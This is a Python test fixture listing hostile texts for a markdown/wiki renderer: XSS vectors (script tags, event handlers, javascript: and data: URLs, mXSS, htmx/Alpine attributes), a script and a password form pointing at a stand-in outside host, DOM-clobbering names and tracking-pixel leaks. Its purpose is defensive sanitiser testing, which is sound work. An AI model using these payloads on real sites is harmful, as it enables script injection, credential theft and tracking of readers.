"""Texts that would do something in a reader's browser, by the number of their entry.

Also read by a real browser (`tests/e2e/test_hostile_texts.py`): there, `window.pwned` stays unset.
"""

from typing import Final

PWNED: Final = "window.pwned=1"
ELSEWHERE: Final = "https://elsewhere.example"

TEXTS: Final[dict[int, tuple[str, ...]]] = {
    146: (
        f"<script>{PWNED}</script>",
        "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
        f"<scr<script>ipt>{PWNED}</scr</script>ipt>",
        f"<svg><script>{PWNED}</script></svg>",
        f"<img src=x onerror={PWNED}>",
    ),
    148: (
        f"[x](javascript:{PWNED})", f"[x](JaVa&#x0A;Script:{PWNED})",
        f"[x](&#106;avascript:{PWNED})", f"[x](java%0ascript:{PWNED})",
        f"<javascript:{PWNED}>", f"[a]: javascript:{PWNED}\n\n[a]", "![x](vbscript:x)",
        f"[x](data:text/html,<script>{PWNED}</script>)", f"[x](&#1;javascript:{PWNED})",
        f"[x](javascript&colon;{PWNED})", f"[x](\tjavascript:{PWNED})", f"<vbscript:{PWNED}>",
        f"![x](data:image/svg+xml,<svg onload={PWNED}>)", f"[x](blob:{PWNED})",
        f"[x](view-source:javascript:{PWNED})", f"[x](feed:javascript:{PWNED})",
    ),
    149: (
        f'![\\" onerror=\\"{PWNED}](x)', f"[a](b 'x\\\" onmouseover=\\\"{PWNED}')",
        f'```js" onclick="{PWNED}\nx\n```', '[x](<a"b>)', f"[a](b 'x\" onmouseover=\"{PWNED}')",
        f'[[x"onmouseover="{PWNED}]]', f'# x {{#a" onclick="{PWNED}}}',
        f'[@a" onclick="{PWNED}]', f'{{{{a" onclick="{PWNED}.b}}}}',
    ),
    151: (
        f"""<math><annotation-xml encoding="text/html"><style>
<img src=1 onerror={PWNED}></style></annotation-xml></math>""",
        f"""<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror={PWNED}&gt;">""",
    ),
    152: (
        f'<noscript><p title="</noscript><img src=x onerror={PWNED}>">',
        f"<template shadowrootmode=open><img src=x onerror={PWNED}></template>",
        f'<xmp><p id="</xmp><img src=x onerror={PWNED}>">',
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        f"<plaintext><img src=x onerror={PWNED}>",
    ),
    154: (
        '<a hx-post="/rides/kestrel/delete/" hx-trigger=load>x</a>',
        '<p data-hx-get="/changes/" data-hx-trigger="load">x</p>',
        f'<p hx-on::load="{PWNED}" hx-on:click="{PWNED}">x</p>',
        '<p hx-vals="js:window.pwned=1" hx-get:inherited="/">x</p>',
        "<p hx-swap-oob=true id=content>x</p>",
        "<p hx-action=/rides/kestrel/delete/ hx-method=post hx-boost=true hx-config='{}'>x</p>",
        "<hx-partial hx-target=body>x</hx-partial>", "<p hx-ignore>x</p>",
    ),
    155: (
        f'<div x-data="{{}}" x-init="{PWNED}">x</div>', f'<p @click="{PWNED}" :href="x">x</p>',
        f'<p x-on:click.window="{PWNED}" x-html="x" x-teleport=body>x</p>',
        '<p x-data="dropdown" x-bind="x" x-effect="x">x</p>',
    ),
    157: (
        "<form name=csrfmiddlewaretoken></form>", "<img name=cookie>", "<a id=results>x</a>",
        "# content", "# __proto__", "# Twice\n\n# Twice",
        "# results", "a[^content]\n\n[^content]: b",
    ),
    158: (
        f"<form action={ELSEWHERE}><input name=password></form>",
        "<button formaction=/changes/1/revert/>x</button>",
        "<input form=edit-form name=body value=x>", "- [ ] x",
    ),
    160: (
        f"![]({ELSEWHERE}/track.png?u=reader)", f"<img srcset={ELSEWHERE}/x.png>",
        f"<a ping={ELSEWHERE}>x</a>", f"<video poster={ELSEWHERE}/x.png></video>",
        f"{ELSEWHERE}/a-page-to-preview", f"<link rel=prefetch href={ELSEWHERE}>",
        f"<p style='background:url({ELSEWHERE}/x.png)'>x</p>",
    ),
}  # fmt: skip

NAMES: Final = (
    f"</script><script>{PWNED}</script>", "<!--<script>", "]]>", "</title><img src=x>",
    '" onmouseover="x', "{{x}}", "{% x %}", "&lt;b&gt;", f"<img src=x onerror={PWNED}>",
)  # fmt: skip
"""Names of pages (161)."""
